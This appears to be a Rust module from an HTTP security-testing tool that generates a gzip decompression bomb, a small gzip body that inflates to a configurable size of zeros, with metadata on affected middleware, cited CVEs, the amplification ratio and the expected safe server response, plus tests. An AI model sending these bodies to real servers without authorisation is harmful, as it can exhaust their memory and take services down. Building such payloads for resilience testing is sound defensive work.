//! Zeros, with `Content-Encoding: gzip`.

use bytes::Bytes;

use crate::payload::pieces::once;
use crate::payload::zeros::{Deflated, crc_of_zeros};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "gzip-bomb",
    group: Group::Archives,
    about: About {
        summary: "Zeros, with `Content-Encoding: gzip`.",
        provokes: "Middleware that inflates a request before any limit is asked.",
        seen: "tornado CVE-2026-49855, libwww-perl CVE-2026-65060, netty's HttpContentDecompressor, alphagov/backdrop issue 360.",
        becomes: "A thousandth of the inflated size on the wire (1 GiB is 1.04 MB), the inflated size in memory and, with decompress() in one go, twice that.",
        safe: "413 or 415; inflating in pieces under a limit.",
    },
    parameters: &[Parameter {
        name: "size",
        about: "size after decompression",
        takes: Takes::Size { least: 1, most: 1 << 40, default: 1 << 30 },
    }],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let inflated = values.number("size");
    Body::new("application/octet-stream", size(inflated), chunks(inflated)).with("content-encoding", "gzip")
}

/// RFC 1952: magic, deflate, no flags, no time, no extra flags, unknown system.
pub(super) const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

fn size(inflated: u64) -> u64 {
    Deflated::zeros(inflated).size() + HEADER.len() as u64 + 8
}

fn chunks(inflated: u64) -> impl Iterator<Item = Bytes> + Send {
    let mut trailer = crc_of_zeros(inflated).finalize().to_le_bytes().to_vec();
    // RFC 1952: the size modulo 2^32.
    trailer.extend((inflated as u32).to_le_bytes());
    once(&HEADER[..]).chain(Deflated::zeros(inflated).chunks()).chain(once(trailer))
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn a_real_decoder_inflates_it_to_the_size_and_checks_its_sum() {
        for size in [0u64, 1, 258, 259, 260, 1032, 70_000, 50_000_000] {
            let wire: Vec<u8> = chunks(size).flatten().collect();
            let inflated = std::io::copy(&mut flate2::read::GzDecoder::new(&wire[..]), &mut std::io::sink()).unwrap();
            assert_eq!(inflated, size);
        }
        let mut some = Vec::new();
        let wire: Vec<u8> = chunks(70_000).flatten().collect();
        flate2::read::GzDecoder::new(&wire[..]).read_to_end(&mut some).unwrap();
        assert!(some.iter().all(|byte| *byte == 0));
    }

    #[test]
    fn a_gibibyte_is_a_megabyte_on_the_wire() {
        assert_eq!(size(1 << 30) / 10_000, 104);
    }
}
